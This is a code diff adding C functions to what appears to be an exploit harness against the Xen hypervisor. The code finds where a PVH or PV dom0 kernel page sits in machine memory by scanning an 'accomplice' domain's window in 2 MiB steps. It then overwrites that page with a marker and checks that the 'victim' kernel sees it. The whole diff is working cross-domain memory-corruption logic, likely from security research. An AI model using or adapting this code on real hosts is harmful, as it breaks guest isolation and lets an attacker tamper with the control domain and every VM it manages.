@@ -124,6 +124,52 @@ long set_param(domid_t domid, uint32_t index, uint64_t value)
                          .domid = domid, .index = index, .value = value));
 }
 
+/*
+ * Where a PVH dom0's frames are in the machine, Xen does not tell. But it gives
+ * dom0 memory in pages of 2 MiB, within which the order is the same.
+ */
+#define FRAMES_2MIB 512
+
+/* @slot: a page of the accomplice's, counted from its window on. */
+static bool holds(unsigned int slot, unsigned int offset, const uint32_t *words)
+{
+    bool same = true;
+
+    for ( unsigned int i = 0; same && i < MARK_SIZE / sizeof(*words); i++ )
+    {
+        uint32_t word;
+
+        same = accomplice_loads(slot, offset + 4 * i, &word) &&
+               word == words[i];
+    }
+
+    return same;
+}
+
+bool content_overwrites_victim(uint64_t memory_at)
+{
+    const unsigned int first = (unsigned int)((memory_at - ACCOMPLICE_WINDOW) /
+                                              PAGE_SIZE);
+    const unsigned int offset = victim() % PAGE_SIZE;
+    uint32_t before[MARK_SIZE / 4], mark[MARK_SIZE / 4];
+    uint64_t frame = kernel_frame(victim());
+
+    if ( !dom0_is_pv() )
+        frame %= FRAMES_2MIB;
+    read_victim(before, sizeof(before));
+    memcpy(mark, new_mark(), sizeof(mark));
+    while ( !holds(first + (unsigned int)frame, offset, before) )
+    {
+        frame += FRAMES_2MIB;
+        if ( frame >= (uint64_t)CONTENT_GIB << 18 )
+            return false;
+    }
+    for ( unsigned int i = 0; i < ARRAY_SIZE(mark); i++ )
+        accomplice_stores(first + (unsigned int)frame, offset + 4 * i, mark[i]);
+
+    return victim_has_mark();
+}
+
 long dm_op(domid_t domid, struct xen_dm_op *op)
 {
     struct xen_dm_op *copy = memcpy(buffer(PAGE_SIZE), op, sizeof(*op));
